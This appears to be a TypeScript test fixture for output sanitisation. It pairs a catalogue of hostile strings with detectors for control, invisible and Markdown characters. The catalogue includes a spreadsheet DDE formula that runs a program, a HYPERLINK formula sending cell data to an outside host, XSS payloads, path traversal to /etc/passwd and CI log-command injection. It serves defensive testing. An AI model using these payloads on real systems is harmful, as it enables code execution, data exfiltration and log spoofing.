/** Names that attack whoever shows them, by what they attack. */
export const ATTACKS: Readonly<Record<string, string>> = {
  'a formula': '=1+1',
  'a formula that asks the web': '=HYPERLINK("http://example.com/?"&A1,"open")',
  'a formula that runs a program': "=cmd|' /C calc'!A0",
  'a formula with a plus': '+1+1',
  'a formula with a minus': '-1+1',
  'a function': '@SUM(A1:A9)',
  'a formula in full width': '＝1+1',
  'a plus in full width': '＋1',
  'a minus in full width': '－1',
  'a function in full width': '＠SUM(A1)',
  'a formula behind a tab': '\t=1+1',
  'a formula behind an apostrophe': "'=1+1",
  'a formula behind a line break': 'x\n=1+1',
  'terminal colours': '\u001b[31mred\u001b[0m',
  'a terminal title': '\u001b]0;owned\u0007',
  'clearing the screen': '\u001bc\u001b[2J',
  'C1 colours': '\u009b31mred',
  'a backspace and a delete': 'D001\b\b\u007f',
  'a line that is written over': 'pays 10\rpays 99',
  'Markdown emphasis': '**bold** _it_ `code` ~~gone~~',
  'a Markdown link': '[here](http://example.com) ![x](http://example.com/x.png)',
  'a Markdown table': 'a | b || c \\| d \\\\| e',
  'a Markdown heading': '# Heading',
  'a Markdown list': '- item',
  'a Markdown fence': '```\ncode\n```',
  'an HTML script': '<script>alert(1)</script>',
  'an HTML picture': '"><img src=x onerror=alert(1)>',
  'an HTML comment': '<!-- --> &amp; &#60;b&#62;',
  'text turned round': '\u202egnp.exe\u202c',
  'text isolated': '\u2066abc\u2069\u200f',
  'zero width': 'D\u200b0\u200d0\ufeff1',
  'line ends of Unicode': 'a\u2028b\u2029c\u0085d',
  'a command of a build log': '::error file=app.js,line=1::owned',
  'a command of a build log on a line of its own': 'x\n::error::owned',
  'a command of another build log': '##vso[task.complete result=Failed;]done',
  'a path': '../../../../etc/passwd',
  'a path of Windows': 'C:\\Windows\\System32\\NUL',
  'a device': 'CON',
  'ten thousand characters': 'x'.repeat(10_000),
  'ten thousand Chinese characters': '王'.repeat(10_000),
  'a line break': 'two\nlines',
  'line breaks of Windows': 'two\r\nlines\r\n',
  'a family': '👨\u200d👩\u200d👧\u200d👦',
  'a flag and a skin': '🏳\ufe0f\u200d🌈 👍🏽 🇨🇳',
  'marks upon marks': `Z${'\u0336\u0322\u035d'.repeat(20)}`,
  'half a pair': 'x\ud800y',
  quotes: '"a" \'b\' “c”',
  separators: 'a,b;c\td',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another program's.
  'a format': '%s %d %n ${x} {{x}} {0}',
  'a name of every object': '__proto__',
  'a method of every object': 'constructor',
  'a word for nothing': 'null',
};

// biome-ignore lint/suspicious/noControlCharactersInRegex: these are what must not be sent.
const CONTROL = /[\0-\x08\x0b-\x1f\x7f-\x9f]/u;

/** Characters that are not seen, or change how others are. What joins an emoji is left alone. */
const DECEIVING = /[\u200b\u200e\u200f\u202a-\u202e\u2028\u2029\u2066-\u2069\ufeff]/u;

/** The first control character of an output; line feeds are how it is made. */
export const controlIn = (output: string): string | undefined => CONTROL.exec(output)?.[0];

export const deceivingIn = (output: string): string | undefined => DECEIVING.exec(output)?.[0];

/** The lines that a build log would take for commands: it looks past spaces in front of them. */
export const commandsIn = (output: string): string[] =>
  output.split(/\r\n|\r|\n/u).filter((line) => line.trimStart().startsWith('::'));

/** The cells of a row of a Markdown table, cut where a reader of GitHub-flavoured Markdown cuts. */
export function markdownCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  for (let at = 0; at < line.length; at += 1) {
    if (line[at] === '\\') {
      cell += line.slice(at, at + 2);
      at += 1;
    } else if (line[at] === '|') {
      cells.push(cell);
      cell = '';
    } else cell += line[at];
  }
  return [...cells, cell].slice(1, -1).map((text) => text.trim());
}

const ENTITIES: Readonly<Record<string, string>> = { '&lt;': '<', '&amp;': '&', '&gt;': '>', '&quot;': '"' };

/** What Markdown shows for text without markup; undefined where something of it would be markup. */
export function markdownText(source: string): string | undefined {
  let text = '';
  for (let at = 0; at < source.length; at += 1) {
    const character = source[at] as string;
    const next = source[at + 1] ?? '';
    const [entity, number] = /^&(?:lt|amp|gt|quot|#(\d+));/u.exec(source.slice(at, at + 10)) ?? [];
    const isLink = source.startsWith('://', at) || /^www\./iu.test(source.slice(at, at + 4));
    if (character === '\\' && /[!-/:-@[-`{-~]/u.test(next)) {
      text += next;
      at += 1;
    } else if (entity !== undefined) {
      text += number === undefined ? ENTITIES[entity] : String.fromCodePoint(Number(number));
      at += entity.length - 1;
    } else if (/[`*_[\]<&~|]/u.test(character) || isLink) return undefined;
    else text += character;
  }
  return text;
}
